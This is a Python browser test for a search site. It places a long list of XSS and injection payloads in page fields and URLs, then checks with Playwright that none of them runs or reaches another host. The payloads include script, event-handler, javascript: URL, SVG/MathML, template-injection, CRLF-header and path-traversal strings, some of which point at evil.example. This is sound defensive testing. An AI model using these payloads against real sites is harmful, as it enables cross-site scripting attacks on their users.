"""Strings that want to be more than text, put wherever a page can say something, and every kind of page that shows them.

`VECTORS` are our own, some of each class. `python tests/browser/hostile.py FOLDER` takes the lists of FOLDER instead
(`make hostile`): it opens every page and fails where a browser does anything but show words.
"""

import contextlib
import datetime as dt
import json
import sys
import tempfile
import time
from collections.abc import Iterable, Iterator, Sequence
from pathlib import Path
from urllib.parse import quote, urlencode, urlsplit

from chromium import chromium, serving
from playwright.sync_api import Error, Page

from search import Document, open_engine
from search.document import document_id
from search.errors import BadDocument
from search.ledger import Ledger
from search.records import Capture, Entry
from web.arguments import MAX_QUERY, MAX_VALUE

RUN = "alert(1)"
FOREIGN = "//evil.example/x"

#: By class: what each tries to break out of, or into.
VECTORS = (
    # scripts
    f"<script>{RUN}</script>", f"<ScRiPt >{RUN}</sCrIpT>", f"<script src={FOREIGN}></script>", f"<script\x0c>{RUN}</script\n>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"&lt;script&gt;{RUN}&lt;/script&gt;", f"<script type=module>{RUN}</script>",
    f"<script>/*</script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+{RUN}//'>",
    # handlers
    f"<img src=x onerror={RUN}>", f"<body onload={RUN}>", f"<input autofocus onfocus={RUN}>", f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>", f"<marquee onstart={RUN}>", f"<img/src=x/onerror={RUN}//", f"<x tabindex=1 onfocus={RUN} autofocus>x",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>", f"<button formaction=javascript:{RUN}>x</button>",
    # out of an attribute
    f"\"><img src=x onerror={RUN}>", f"'><img src=x onerror={RUN}>", f"\" onmouseover=\"{RUN}", f"' autofocus onfocus='{RUN}",
    f"` onerror=`{RUN}`", f"\" style=\"background:url({FOREIGN})\" x=\"",
    # addresses
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"\x01javascript:{RUN}", f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}", f"<a href=javascript:{RUN}>x</a>", f"<base href={FOREIGN}>", f"<link rel=stylesheet href={FOREIGN}>",
    f"<meta http-equiv=refresh content=0;url={FOREIGN}>", f"<form action={FOREIGN}><button>x</button></form>",
    f"https://quay.example/\"><script>{RUN}</script>", f"https://quay.example/?a=1#' onclick='{RUN}", "//evil.example/", "http:\\\\evil.example\\",
    # SVG and MathML
    f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=20>x</text></a></svg>", f"<svg><foreignObject><iframe onload={RUN}></foreignObject></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>", f"<math href=javascript:{RUN}>x</math>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='{RUN}'/></svg>#x\"/></svg>",
    # out of an element, a comment, a raw text
    f"</title><script>{RUN}</script>", f"</textarea><script>{RUN}</script>", f"</style><script>{RUN}</script>", f"</script><script>{RUN}</script>",
    f"--><script>{RUN}</script>", "<!--", "<![CDATA[", f"]]><script>{RUN}</script>", f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    f"<template><script>{RUN}</script></template>", "<plaintext>", f"</mark></a></h2></li></ol></main><script>{RUN}</script>",
    f"<select><template><img src=x onerror={RUN}></template></select>", f"<dialog open><img src=x onerror={RUN}></dialog>",
    # templates and JSON
    "{{ 7*191 }}", "{% raw %}{{ config }}{% endraw %}", "${7*191}", "#{7*191}", "{{constructor.constructor('" + RUN + "')()}}",
    f'","x":"</script><script>{RUN}</script>', f"\\\";{RUN};//", f"\u2028{RUN}\u2029", "%3Cscript%3E" + RUN + "%3C/script%3E",
    # styles
    f"<style>@import '{FOREIGN}';</style>", f"<style>*{{background:url({FOREIGN})}}</style>", f"<p style=background-image:url({FOREIGN})>x</p>",
    "<div style=position:fixed;inset:0;z-index:9>x</div>", f"<img src={FOREIGN}>", f"<img srcset='{FOREIGN} 2x'>",
    f"<video poster={FOREIGN}>", f"<object data={FOREIGN}></object>", f"<embed src={FOREIGN}>", f"<iframe src={FOREIGN}></iframe>",
    # characters
    "\u202egnp.exe\u202c", "\u2066\u202d\u2069", "\u200b\u200d\ufeff<script>" + RUN + "</script>", "\uff1cscript\uff1e" + RUN + "\uff1c/script\uff1e",
    "+ADw-script+AD4-" + RUN + "+ADw-/script+AD4-", "Z\u0335\u0336\u0337\u0338\u0321a\u0322\u0327l\u0328g\u0334o" * 4, "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\x00<script>" + RUN + "</script>", "\ud7ff\ue000\ufffd\U0010ffff", "ı\u0130ﬀﬁſ", "..\\..\\..\\etc\\passwd", "\r\nSet-Cookie: a=b\r\n\r\n<script>" + RUN + "</script>",
)  # fmt: skip

#: Every address that a page of the group `number` is shown under is asked; `{x}` stands for its strings.
Group = tuple[str, ...]


def documents(group: Group, number: int) -> Iterator[Document]:
    """A page that says each string of the group wherever it can say something, and one whose address is the first."""
    whole = "lamp " + "\n\n".join(group)
    values = tuple(value for value in (string.strip()[:MAX_VALUE] for string in group) if value)
    said = Document(
        f"https://quay.example/{number}/{quote(group[0])}", f"lamp {' '.join(group)}", whole, site=group[0][:MAX_VALUE],
        section=group[-1][:MAX_VALUE], authors=values, language=group[0][:40], tags=values, kind="captcha", also_at=(group[0],),
        published=dt.date(2018, 2, 1 + number % 28), fetched=dt.datetime(2024, 1, 1, tzinfo=dt.UTC),
    )  # fmt: skip
    for each in (said, Document(group[0], group[-1], whole, site="quay.example")):
        with contextlib.suppress(BadDocument):  # no index takes an empty url or half a character
            yield each.validated()


def fill(data: Path, strings: Sequence[str], size: int) -> list[tuple[Group, list[Document]]]:
    """A collection of pages that say these strings, `size` to a page, each captured twice; the pages by group."""
    split = (tuple(strings[start : start + size]) for start in range(0, len(strings), size))
    groups = [(group, list(documents(group, n))) for n, group in enumerate(split)]
    batch = []
    for number, (group, pages) in enumerate(groups):
        html = ("<title>" + "".join(group) + "</title>" + "".join(f"<div title='{s}' id=\"{s}\"><a href=\"{s}\">{s}</a></div>" for s in group))
        removed = tuple((string, f"removed here and there {string}") for string in group)
        for page in pages:
            for n, title in enumerate((page.title, f"before {page.title}")):
                document = Document(page.url, title, f"{page.body}\n\n{n}", page.site, authors=page.authors[n:], tags=page.tags)
                capture = Capture(
                    page.url, f"heap/{group[0]}", f"{number:030}{n:02}", fetched=dt.datetime(2024, 1, 1 + n, tzinfo=dt.UTC),
                    content_type="text/html; charset=utf-8", title=title, reason=group[0],
                    state="hidden" if page.kind == "captcha" else "kept",
                )  # fmt: skip
                entry = Entry(document, group[0], group[0], group[0], removed)
                batch.append((capture, entry, html.encode("utf-8", "replace")))
    with Ledger(data, create=True) as ledger:
        ledger.write(ledger.start_run(), batch)
    with open_engine(f"whoosh:{data / 'index'}").rebuild() as writer:
        for _, pages in groups:
            for page in pages:
                writer.put(page)
    return groups


def addresses(groups: Sequence[tuple[Group, list[Document]]], data: Path) -> Iterator[str]:
    """Every kind of page, so that every string of the groups is shown on it."""
    for page in range(1, -(-2 * len(groups) // 50) + 1):
        yield f"/search?size=50&hidden=1&page={page}"
    yield from ("/search?q=lamp&size=50", "/about", "/help", "/about/quay.example", "/why", "/api/search?q=lamp&size=50")
    for facet in ("site", "section", "author", "language", "tag", "kind"):
        for page in range(1, 2 + sum(len(group) for group, _ in groups) // 100):
            yield f"/facet/{facet}?q=lamp&page={page}"
    with Ledger(data) as ledger:
        for group, pages in groups:
            yield from asking(group)
            for page in pages:
                old, new = sorted(capture.id for capture in ledger.captures(page.url))
                yield f"/page/{document_id(page.url)}?{urlencode({'q': ' '.join(group)[:1_500]}, errors='replace')}"
                yield f"/page/{document_id(page.url)}/capture/{old}/stored"
                yield f"/page/{document_id(page.url)}/changes/{old}/{new}"
            mark = next(iter(ledger.survey._rows("SELECT mark FROM removed WHERE capture = ?", (new,))), None)
            if mark:
                yield f"/removed/{mark[0]:016x}"


def asking(group: Group) -> Iterator[str]:
    """The strings as what is asked: words, values to want and to leave out, dates, an address, part of a value."""
    pairs = [("q", group[0])]
    for n, string in enumerate(group):
        pairs += [(("site", "-tag", "author", "-section")[n % 4], string[:MAX_VALUE]), ("published", string[:60])]
    for path, asked in (
        ("/search", [*pairs, ("from", group[-1][:60]), ("sort", group[0][:60]), (group[0][:60], "x")]),
        ("/facet/tag", [("within", group[0][:MAX_VALUE]), *pairs]),
        ("/why", [("url", group[0]), *pairs]),
        ("/api/suggest", [("q", group[0][:200])]),
    ):
        query = urlencode(asked, errors="replace")
        if len(query) <= MAX_QUERY:
            yield f"{path}?{query}"


#: Opens what can be opened, and finds what waits for a reader's hand or eye: handlers, styles, addresses that run.
LOOK = """() => {
  document.querySelectorAll('details').forEach(each => each.open = true);
  const waits = name => name.startsWith('on') || ['style', 'srcdoc', 'formaction', 'background', 'ping'].includes(name);
  const own = href => /^(https?:|$)/i.test(new URL(href, location).protocol);
  return [...document.querySelectorAll('*')].filter(each =>
    each.getAttributeNames().some(waits)
    || ['href', 'src', 'action', 'xlink:href'].some(name => each.hasAttribute(name) && !own(each.getAttribute(name)))
    || each.matches('script:not([src^="/static/"]), style, base, object, embed, meta[http-equiv], template, math, foreignObject')
  ).map(each => each.outerHTML.slice(0, 120));
}"""


def watched(page: Page, site: str, seen: list[str]) -> None:
    """Whatever the page does but show words is noted: a dialog, a report of the policy, a request of another host."""
    page.on("dialog", lambda dialog: (seen.append(f"dialog: {dialog.message}"), dialog.dismiss()))
    page.on("console", lambda message: seen.append(f"console: {message.text}"))
    page.on("pageerror", lambda error: seen.append(f"error: {error}"))
    page.on("popup", lambda popup: seen.append(f"popup: {popup.url}"))
    page.on("download", lambda download: seen.append(f"download: {download.url}"))
    page.on("request", lambda asked: None if urlsplit(asked.url).netloc == urlsplit(site).netloc else seen.append(f"request: {asked.url}"))


def visit(page: Page, site: str, address: str, seen: list[str]) -> None:
    """Open the page and look; what it did, what waits in it, and whether it went elsewhere, is added to `seen`."""
    before = len(seen)
    try:
        page.goto(site.rstrip("/") + address)
        if not address.startswith("/api/"):
            seen += [f"found: {each}" for each in page.evaluate(LOOK)]
    except Error as error:
        seen.append(f"error: {error.message.splitlines()[0]}")
    if page.url.partition("#")[0] != site.rstrip("/") + address and page.evaluate("location.pathname") != urlsplit(address).path:
        seen.append(f"went to {page.url}")
    seen[before:] = [f"{line} on {address[:200]}" for line in seen[before:]]


def type_in(page: Page, site: str, strings: Iterable[str], seen: list[str]) -> None:
    """Each string typed into the box, with the results and completions that come of it."""
    page.goto(site + "search?q=lamp")
    box = page.locator(".box input[name=q]")
    for string in strings:
        with page.expect_response(lambda answer: "/search?" in answer.url or "/search" in urlsplit(answer.url).path):
            box.fill(f"lamp {string}"[:300])


def lists(folder: Path) -> list[str]:
    """The strings of the benchmark's lists, each once."""
    payloads = (folder / "xss" / "xss-payload-list.txt").read_text("utf-8", "replace").split("\n")
    cases = [file.read_text("utf-8", "replace").partition("\n--\n")[0] for file in sorted((folder / "xss").glob("*.test"))]
    naughty = json.loads((folder / "strings" / "blns.json").read_text("utf-8"))
    return [string for string in dict.fromkeys([*payloads, *cases, *naughty]) if string.strip()]


def main(folder: Path) -> int:
    strings, seen, began = lists(folder), [], time.monotonic()
    with tempfile.TemporaryDirectory() as name:
        data = Path(name)
        groups = fill(data, strings, 20)
        with serving(data) as site, chromium() as browser:
            page = browser.new_page()
            watched(page, site, seen)
            count = 0
            for count, address in enumerate(addresses(groups, data), 1):  # noqa: B007  told below
                visit(page, site, address, seen)
            type_in(page, site, strings[::40], seen)
    print(f"{len(strings):,} strings on {count:,} pages in {time.monotonic() - began:.0f} s: {len(seen)} misdeeds")
    print(*seen[:40], sep="\n")
    return 1 if seen else 0


if __name__ == "__main__":
    sys.exit(main(Path(sys.argv[1])))
